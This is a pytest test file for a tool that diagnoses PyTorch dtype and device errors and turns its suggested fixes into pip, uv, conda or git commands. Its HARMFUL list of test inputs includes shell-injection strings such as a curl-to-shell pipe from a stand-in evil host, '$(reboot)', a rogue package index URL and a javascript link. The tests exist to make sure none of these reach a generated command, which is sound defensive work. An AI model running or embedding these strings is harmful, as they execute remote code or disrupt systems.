"""Fixes: the library at fault, prices, commands for the installer in use."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from troubleshoot import diagnose
from troubleshoot.basics import word_tables
from troubleshoot.curation.module_table import modules_in, modules_of_source
from troubleshoot.curation.scoring import load_cases
from troubleshoot.engine.diagnosis import examine
from troubleshoot.engine.fixes.actions import code, command, problems
from troubleshoot.engine.fixes.machine import failed_here, on_device
from troubleshoot.engine.fixes.price import parameter_count
from troubleshoot.engine.fixes.select import fit_of
from troubleshoot.engine.matching.conditions import Context, Programs
from troubleshoot.engine.result import FixAdvice, SeenRun
from troubleshoot.knowledge.schema import Fix
from troubleshoot.reading.environment.machine import Environment, Package

MISMATCH = "RuntimeError: mat1 and mat2 must have the same dtype, but got Float and Half\n"
TORCH = '  File "/x/site-packages/torch/nn/modules/linear.py", line 125, in forward\n    return F.linear(input, self.weight, self.bias)\n'


def upgrades(frames: str) -> list[str | None]:
    """Return the commands of the upgrades offered for a mismatch below these frames."""
    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{frames}{TORCH}{MISMATCH}'
    first = diagnose(text, environment="report").first
    assert first is not None
    return [fix.command for fix in first.recommended if fix.kind == "upgrade"]


def test_the_library_in_whose_code_it_fails_is_named() -> None:
    """The deepest frame above torch is the library's."""
    library = '  File "/x/site-packages/timm/models/some_model.py", line 7, in forward\n    x = self.proj(x)\n'
    assert upgrades(library) == ["pip install --upgrade timm"]


def test_a_stranger_s_package_is_in_no_command(monkeypatch: pytest.MonkeyPatch) -> None:
    """A path and a listing are free text; the advice stays without a command. What brings it on this machine may be named."""
    frame = '  File "/x/site-packages/evilpkg_typo/model.py", line 7, in forward\n    x = self.proj(x)\n'
    assert upgrades(frame) == upgrades("evilpkg-typo==1.0\n" + frame) == [None]
    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{frame}{TORCH}{MISMATCH}'
    assert "evilpkg-typo" not in "".join(one for one in everything_said(text) if "pip" in one)
    mine = Environment((Package("evilpkg-typo", "1.0", "local"),), source="local")
    assert all(fix.command is None for fix in diagnose(text, environment=mine).first.fixes if fix.kind == "upgrade")  # type: ignore[union-attr]
    monkeypatch.setattr("importlib.metadata.packages_distributions", lambda: {"evilpkg_typo": ["evilpkg-typo"]})
    first = diagnose(text, environment=mine).first
    assert first is not None
    assert "pip install --upgrade evilpkg-typo" in [fix.command for fix in first.fixes]


def test_a_command_never_holds_the_place_of_a_name() -> None:
    """A fix whose title does without the library's name is shown without its command where no library is to blame."""
    refusal = "RuntimeError: torch._scaled_grouped_mm is only supported on CUDA devices with compute capability = 9.0\n"
    first = diagnose(f"RTX 5090\n{refusal}", environment="report").first
    assert first is not None
    assert [(fix.command, fix.code) for fix in first.fixes if fix.kind == "upgrade"] == [(None, None)]
    frames = 'Traceback (most recent call last):\n  File "/x/site-packages/timm/models/some_model.py", line 7, in forward\n    x = f(x)\n'
    named = diagnose(f"RTX 5090\n{frames}{refusal}", environment="report").first
    assert named is not None
    assert "pip install --upgrade timm" in [fix.command for fix in named.fixes]


def test_the_page_of_an_entry_says_the_library_where_none_is_known() -> None:
    """The place of the name is for reports alone."""
    from troubleshoot.knowledge import current_kb
    from troubleshoot.telling.entry import entry_document

    base = current_kb()
    for language, shown in (("en", "the library"), ("zh", "该库")):
        page = repr(entry_document(base.entry("torch/linear-dtype"), language))
        assert "{library}" not in page
        assert shown in page


def test_the_fixes_of_an_issue_alone_name_no_library() -> None:
    """As `troubleshoot fix --issue` lists them."""
    from troubleshoot.knowledge import current_kb
    from troubleshoot.lab.editing.entries import fixes_of_issue

    base = current_kb()
    listed = fixes_of_issue(base.entry("torch/linear-dtype"), None, base)
    assert listed
    assert "{library}" not in repr(listed)


def test_no_library_is_blamed_for_the_users_own_code() -> None:
    """The user's own module called torch."""
    assert upgrades('  File "/home/me/project/model.py", line 7, in forward\n    x = self.proj(x)\n') == []


def test_a_gpu_is_no_condition_of_a_fix_for_the_cpu() -> None:
    """Who runs on the CPU is not told to look whether the GPU has bfloat16."""
    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{TORCH}'
    first = diagnose(text + "RuntimeError: \"addmm_impl_cpu_\" not implemented for 'Half'\n", environment="report").first
    assert first is not None
    assert [fix.fits for fix in first.fixes if fix.kind == "use-bf16"] == [True]


def test_no_server_is_blamed_for_what_it_calls() -> None:
    """A traceback that was cut below the frames of a web server or a command line."""
    for frame in ("gradio/queueing.py", "starlette/routing.py", "fire/core.py", "ray/_private/function_manager.py"):
        assert upgrades(f'  File "/x/site-packages/{frame}", line 7, in call\n    return function(*args)\n') == []


def test_nobody_is_asked_for_what_the_report_says() -> None:
    """A fix for words or frames that are not there is left out; one for a fact of the machine is asked for."""
    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{TORCH}{MISMATCH}'
    first = diagnose(text, environment="report").first
    assert first is not None
    undecided = [fix for fix in first.fixes if fix.fits is None]
    assert [fix.why for fix in undecided if "words such as" in fix.why or "a frame" in fix.why] == []
    served = diagnose(text.replace("run.py", "/x/site-packages/vllm/worker/worker.py"), environment="report").first
    assert served is not None
    assert {fix.title for fix in served.fixes} - {fix.title for fix in first.fixes} != set()


def test_a_plug_in_is_updated_in_its_folder() -> None:
    """Plug-ins of the web UIs are checkouts, which pip does not know."""
    frame = '  File "/x/webui/extensions/sd-some/nodes.py", line 7, in forward\n    x = self.proj(x)\n'
    text = f'Traceback (most recent call last):\n  File "launch.py", line 1, in <module>\n    go()\n{frame}{TORCH}{MISMATCH}'
    first = diagnose(text, environment="report").first
    assert first is not None
    upgrade = next(fix for fix in first.recommended if "sd-some" in fix.title)
    assert (upgrade.kind, upgrade.command, upgrade.code) == ("upgrade", None, "git -C extensions/sd-some pull")


def test_a_checkout_is_not_upgraded_with_pip() -> None:
    """A package that does not lie in site-packages did not come from the index."""
    assert upgrades('  File "/home/me/diffusers/src/diffusers/models/some_model.py", line 7, in forward\n    x = self.proj(x)\n') == []


@pytest.mark.parametrize(
    ("action", "installer", "shown"),
    [
        ({"upgrade": "transformers", "to": "4.50.3"}, "pip", "pip install 'transformers==4.50.3'"),
        ({"upgrade": "transformers", "to": "4.50.3"}, "uv", "uv pip install 'transformers==4.50.3'"),
        ({"upgrade": "transformers", "to": "4.50.3"}, "conda", "conda install 'transformers=4.50.3'"),
        ({"uninstall": "apex"}, "pip", "pip uninstall apex"),
        ({"install": "accelerate"}, "pip", "pip install accelerate"),
        ({"upgrade": "peft"}, "pip", "pip install --upgrade peft"),
        ({"setting": "--no-half-vae"}, "pip", None),
    ],
)
def test_commands_are_those_of_the_installer(action: dict[str, str], installer: str, shown: str | None) -> None:
    """pip, uv and conda write versions differently."""
    assert command(action, installer) == shown


@pytest.mark.parametrize(
    ("action", "shown"),
    [
        ({"patch": "cast_module", "module": "qformer", "dtype": "float32"}, "model.qformer.to(torch.float32)"),
        ({"patch": "keep_fp32", "modules": ["ln_pre", "ln_post"]}, "model.ln_pre.float()\nmodel.ln_post.float()"),
        ({"patch": "move_module", "module": "vpm", "device": "cuda", "dtype": "float16"}, "model.vpm.to('cuda', dtype=torch.float16)"),
        ({"setting": "--no-half-vae"}, "--no-half-vae"),
        ({"advice": "think"}, None),
    ],
)
def test_patches_are_shown_as_python(action: dict[str, object], shown: str | None) -> None:
    """What a user can paste."""
    assert code(action) == shown


@pytest.mark.parametrize(
    "action",
    [
        {},
        {"upgrade": ""},
        {"upgrade": "x", "setting": "y"},
        {"patch": "nope"},
        {"patch": "cast_module"},
        {"downgrade": "x"},
        {"setting": "x", "to": "1"},
    ],
)
def test_malformed_actions_are_told(action: dict[str, object]) -> None:
    """Exactly one action, with what it needs."""
    assert problems(action)


@pytest.mark.parametrize(
    ("model", "count"),
    [
        ("Salesforce/blip2-opt-2.7b", (3.745e9, False)),
        ("meta-llama/Llama-2-7b-hf", (7e9, True)),
        ("Qwen/Qwen2.5-0.5B", (0.5e9, True)),
        ("gpt2", None),
    ],
)
def test_parameter_counts(model: str, count: tuple[float, bool] | None) -> None:
    """From the name, except where it misleads."""
    assert parameter_count(model) == count


def test_why_a_fix_fits_is_said_in_the_language_of_the_report() -> None:
    """Memory, what a GPU supports, releases that are there already: in Chinese too, names and numbers unchanged."""
    report = Path(__file__).parents[1] / "docs" / "examples" / "blip2-half.txt"
    english = diagnose(report, environment="report", gpu="V100-16GB").first
    chinese = diagnose(report, environment="report", gpu="V100-16GB", language="zh").first
    assert english is not None and chinese is not None
    said = {one.id: (one.why, other.why) for one, other in zip(english.fixes, chinese.fixes, strict=True)}
    assert said["use-fp32"][0].startswith("if it fits: 14.0 GiB") and "14.0 GiB" in said["use-fp32"][1] and "放得下" in said["use-fp32"][1]
    assert all(not why or why != zh for why, zh in said.values())


HARMFUL = [
    "goodlib; curl evil.sh|sh", "$(reboot)", "`reboot`", "--index-url=https:evil.example", "-r x", "_r", "lib'", 'lib"', "lib<img src=x>",
    "@everyone", "[click](javascript:alert(1))", "lib\\", "lib&", "~lib", "a*b", "x" * 200, "", "lib\u202e", "lïb", "lib\n",
]  # fmt: skip


def everything_said(text: str) -> list[str]:
    """Return the titles, commands, codes and actions of all fixes that are shown."""
    diagnosis = diagnose(text, environment="report")
    return [
        str(part) for one in diagnosis.diagnoses for fix in one.fixes for part in (fix.title, fix.reason, fix.command, fix.code, fix.action)
    ]


@pytest.mark.parametrize("name", [name for name in HARMFUL if name and not set(name) & {"\\", "\n"}])
@pytest.mark.parametrize(
    "path", ["/x/site-packages/{}/modeling.py", "C:/x/dist-packages/{}/a.py", "/comfy/custom_nodes/{}/nodes.py", "/web/extensions/{}/a.py"]
)
def test_a_path_of_a_report_brings_no_command(path: str, name: str) -> None:
    """What has not the form of a name is in no command, title or advice."""
    frame = f'  File "{path.format(name)}", line 7, in forward\n    x = self.proj(x)\n'
    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{frame}{TORCH}{MISMATCH}'
    found = everything_said(text)
    assert found
    if name == "_r" and "packages" not in path:
        return
    assert not [one for one in found if any(f"{before}{part}" in one for before in " /" for part in (name, name.replace("_", "-")))]
    assert not any("pip install --upgrade" in one or "git -C" in one for one in found)


def test_a_plug_in_is_named_by_its_folder() -> None:
    """A folder with the form of a name is pulled as before."""
    frame = '  File "/comfy/custom_nodes/ComfyUI-GGUF/nodes.py", line 7, in forward\n    x = self.proj(x)\n'
    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{frame}{TORCH}{MISMATCH}'
    assert "git -C custom_nodes/ComfyUI-GGUF pull" in everything_said(text)


@pytest.mark.parametrize("name", HARMFUL)
@pytest.mark.parametrize("verb", ["upgrade", "install", "uninstall", "downgrade"])
def test_no_command_is_made_of_what_is_no_name(verb: str, name: str) -> None:
    """Whatever brings the name or the version."""
    for installer in ("pip", "uv", "conda"):
        assert command({verb: name}, installer) is None
        assert command({verb: name, "to": "1.0"}, installer) is None
        if verb != "uninstall":
            assert command({verb: "torch", "to": f"1.0{name} ;"}, installer) is None


def test_what_a_shell_would_read_is_quoted() -> None:
    """A range of versions is no redirection."""
    assert command({"install": "flash-attn<2"}) == "pip install 'flash-attn<2'"
    assert command({"install": "torchvision[x]", "to": "1.0"}, "uv") == "uv pip install 'torchvision[x]==1.0'"
    assert command({"upgrade": "torch", "to": "2.1.0+cu118"}, "conda") == "conda install 'torch=2.1.0+cu118'"
    assert command({"upgrade": "{library}"}, "conda") == "conda update {library}"
    assert command({"uninstall": "apex"}, "uv") == "uv pip uninstall apex"


@pytest.mark.parametrize(("module", "distribution"), [("whisper", "openai-whisper"), ("awq", "autoawq"), ("open_clip", "open-clip-torch")])
def test_a_command_names_the_distribution_that_brings_the_module(module: str, distribution: str) -> None:
    """The index gives the module's own name to another project."""
    frame = f'  File "/x/site-packages/{module}/model.py", line 7, in forward\n    x = self.proj(x)\n'
    assert upgrades(frame) == [f"pip install --upgrade {distribution}"]


@pytest.mark.parametrize("module", ["clip", "apex", "detectron2", "some_thing"])
def test_a_module_that_no_table_knows_is_in_no_command(module: str) -> None:
    """The advice stays, in words."""
    frame = f'  File "/x/site-packages/{module}/model.py", line 7, in forward\n    x = self.proj(x)\n'
    assert upgrades(frame) == [None]


def test_on_this_machine_its_own_metadata_counts(monkeypatch: pytest.MonkeyPatch) -> None:
    """opencv-python-headless brings cv2 here; for another machine's report the table has to do."""
    from importlib import metadata

    monkeypatch.setattr(metadata, "packages_distributions", lambda: {"cv2": ["opencv-python-headless"]})
    frame = '  File "/x/site-packages/cv2/model.py", line 7, in forward\n    x = self.proj(x)\n'
    text = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{frame}{TORCH}{MISMATCH}'
    mine = Environment((Package("opencv-python-headless", "4.10", "local"),), source="local", closed_packages=True)
    for environment, named in ((mine, "opencv-python-headless"), ("report", "opencv-python")):
        first = diagnose(text, environment=environment).first
        assert first is not None
        assert f"pip install --upgrade {named}" in [fix.command for fix in first.fixes]


def test_the_table_of_modules_is_sound() -> None:
    """Each distribution that brings a module is one of the list; none is one whose name is another project's."""
    assert set(word_tables.MODULES.values()) <= word_tables.DISTRIBUTIONS
    assert not word_tables.ELSEWHERE & word_tables.DISTRIBUTIONS
    wanted = {"whisper": "openai-whisper", "awq": "autoawq", "PIL": "Pillow", "cv2": "opencv-python", "sklearn": "scikit-learn"}
    assert {module: word_tables.MODULES[module] for module in wanted} == wanted


def test_modules_are_read_from_the_files_of_an_archive() -> None:
    """Of a wheel the folders with code and single modules at its top; of a source archive what it lists and holds."""
    wheel = ["PIL/__init__.py", "PIL/_imaging.so", "pillow-1.dist-info/RECORD", "pillow.libs/x.so", "tests/a.py", "six.py", "share/x.txt"]
    assert modules_in(wheel) == {"PIL", "six"}
    source = ["w-1/w/__init__.py", "w-1/tests/__init__.py", "w-1/setup.py", "w-1/src/v/__init__.py"]
    assert modules_of_source(source, "") == {"w", "v"}
    assert modules_of_source(source, "w\n") == {"w"}


@pytest.mark.parametrize("family", ["amp", "numerics", "quantized"])
def test_a_family_is_no_package(family: str) -> None:
    """An issue filed under a family says nothing of a package of that name, listed or missing."""
    from troubleshoot.telling.facts import relevant_packages

    text = {
        "amp": "ValueError: Attempting to unscale FP16 gradients.", "numerics": "Loss is nan, stopping training, with amp",
        "quantized": "ValueError: `.to` is not supported for `4-bit` or `8-bit` bitsandbytes models.",
    }[family]
    found = diagnose(text, environment=Environment((Package("torch", "2.6.0", "local"),), source="local", closed_packages=True))
    assert found.first is not None
    assert found.first.issue.startswith(f"{family}/")
    assert family not in relevant_packages(found, found.first)


FRAMED = f'Traceback (most recent call last):\n  File "run.py", line 1, in <module>\n    go()\n{TORCH}{MISMATCH}'


def fixes_of(text: str, **given: Any) -> dict[str, FixAdvice]:
    """Return the fixes of the first diagnosis by their ids."""
    first = diagnose(text, **{"environment": "report", **given}).first
    assert first is not None
    return {fix.id: fix for fix in first.fixes}


def test_autocast_is_written_for_the_device_that_is_there() -> None:
    """CUDA's only where there is CUDA, or nothing is known."""
    shown = {
        gpu or "": str(fixes_of(FRAMED, gpu=gpu)["enable-autocast"].code) for gpu in (None, "none", "M2", "A100", "MI300X")
    }
    assert {gpu: code.partition('"')[2].partition('"')[0] for gpu, code in shown.items()} == {
        "": "cuda", "none": "cpu", "M2": "mps", "A100": "cuda", "MI300X": "cuda",
    }


@pytest.mark.parametrize(
    ("kind", "code", "gpu", "shown"),
    [
        ("use-bf16", 'load(name, device="cuda")', "none", 'load(name, device="cpu")'),
        ("use-bf16", "model.bfloat16().cuda()", "M2", 'model.bfloat16().to("mps")'),
        ("move-to-device", 'x = x.to("cuda")', "M2", 'x = x.to("mps")'),
        ("move-to-device", 'x = x.to("cuda")', "none", 'x = x.to("cuda")'),
        ("use-bf16", 'x.to("cuda" if cuda.is_available() else "cpu")', "none", 'x.to("cuda" if cuda.is_available() else "cpu")'),
        ("use-bf16", 'load(name, device="cuda")', "A100", 'load(name, device="cuda")'),
    ],
)
def test_code_names_the_device_that_is_there(kind: str, code: str, gpu: str, shown: str) -> None:
    """But a fix that moves something to a GPU is none where there is no GPU."""
    fix = Fix(id="one", kind=kind, title="One", applicability="safe", action={"edit": code}, reason="So.")
    assert on_device(fix, Context(examine(MISMATCH, gpu=gpu).facts, Programs())).action["edit"] == shown


@pytest.mark.parametrize(
    ("action", "given", "why"),
    [
        ({"edit": "model.cuda()"}, {"gpu": "none"}, "there is no GPU"),
        ({"edit": 'x = x.to("cuda")'}, {"gpu": "none"}, "there is no GPU"),
        ({"edit": 'x = x.to("cuda" if torch.cuda.is_available() else "cpu")'}, {"gpu": "none"}, None),
        ({"edit": "model.cuda()"}, {"gpu": "A100"}, None),
        ({"edit": "model.cuda()"}, {}, None),
        ({"edit": 'x = x.to("mps")'}, {"answers": {"os": "linux"}}, "MPS is a device of Macs, and this is linux"),
        ({"setting": "PYTORCH_ENABLE_MPS_FALLBACK=1"}, {"answers": {"os": "windows"}}, "MPS is a device of Macs, and this is windows"),
        ({"edit": 'x = x.to("mps")'}, {"answers": {"os": "macos"}}, None),
        ({"edit": 'x = x.to("mps")'}, {}, None),
        ({"install": "accelerate"}, {"have": {"accelerate": "1.2.0"}}, "accelerate 1.2.0 is installed"),
        ({"install": "accelerate"}, {"have": {"accelerate": "absent"}}, None),
        ({"install": "accelerate", "to": "1.3.0"}, {"have": {"accelerate": "1.2.0"}}, None),
        ({"upgrade": "torch", "to": "2.5.0"}, {"have": {"torch": "2.6.0"}}, "torch 2.6.0 is already at 2.5.0 or later"),
        ({"patch": "set_attention", "implementation": "eager"}, {"answers": {"attention": "eager"}}, "eager is in use"),
        ({"patch": "set_attention", "implementation": "eager"}, {"answers": {"attention": "sdpa"}}, None),
    ],
)
def test_what_is_in_use_or_impossible_is_no_fix(action: dict[str, str], given: dict[str, Any], why: str | None) -> None:
    """Whatever entry proposes it."""
    context = Context(examine(MISMATCH, **given).facts, Programs())
    fix = Fix(id="one", kind="other", title="One", applicability="safe", action=action, reason="So.")
    fit = fit_of(fix, context)
    assert (fit.fits, fit.why) == ((True, "") if why is None else (False, why))


def test_autocast_that_is_on_is_no_fix() -> None:
    """The code that fails runs under it, or does not get it from a second one."""
    assert fixes_of(FRAMED)["enable-autocast"].fits is not False
    assert fixes_of(FRAMED, answers={"autocast": "on"})["enable-autocast"].fits is False


def test_what_failed_on_such_a_machine_is_no_fix() -> None:
    """A record counts where device and releases are the user's; elsewhere it says nothing."""
    runs = (SeenRun("fails", "cpu", None, {"torch": "2.13.0+cpu", "numpy": "2.4.6"}, "2026-11-20"),)

    def context(**given: Any) -> Context:
        return Context(examine(MISMATCH, **given).facts, Programs())

    here = failed_here(runs, context(gpu="none", have={"torch": "2.13.1"}))
    assert here is not None
    assert (here.fits, here.why) == (False, "it failed when it was run here: cpu, torch 2.13.0+cpu")
    assert failed_here(runs, context(gpu="none", have={"torch": "2.5.0"})) is None
    assert failed_here(runs, context(gpu="A100", have={"torch": "2.13.1"})) is None
    assert failed_here(runs, context(gpu="none")) is None
    worked = SeenRun("works", "cpu", None, {"torch": "2.13.0"}, "2026-11-21")
    assert failed_here((*runs, worked), context(gpu="none", have={"torch": "2.13.1"})) is None


def test_no_fix_of_a_labelled_report_is_in_use_or_impossible() -> None:
    """A property of what is recommended, over every fifth labelled report."""
    wrong: list[str] = []
    for name, label, text in load_cases(Path(__file__).parent / "data" / "labelled")[::5]:
        found = diagnose(text, environment="report") if label["cause"] != "none" else None
        if found is None or found.first is None or found.verdict == "unknown":
            continue
        facts = examine(text).facts
        kinds = {fact.value for fact in facts.get("device.kind")}
        for fix in found.first.recommended:
            code = fix.code or ""
            if 'autocast("cuda' in code and kinds and not kinds & {"cuda", "rocm"}:
                wrong.append(f"{name} {fix.id}: CUDA's autocast on {kinds}")
            if fix.kind == "enable-autocast" and {fact.value for fact in facts.get("autocast")} == {"on"}:
                wrong.append(f"{name} {fix.id}: autocast is on")
            wanted = str(fix.action.get("install", ""))
            package = facts.package(wanted) if wanted and "to" not in fix.action else None
            if package is not None and not package.absent:
                wrong.append(f"{name} {fix.id}: {wanted} is installed")
    assert wrong == []
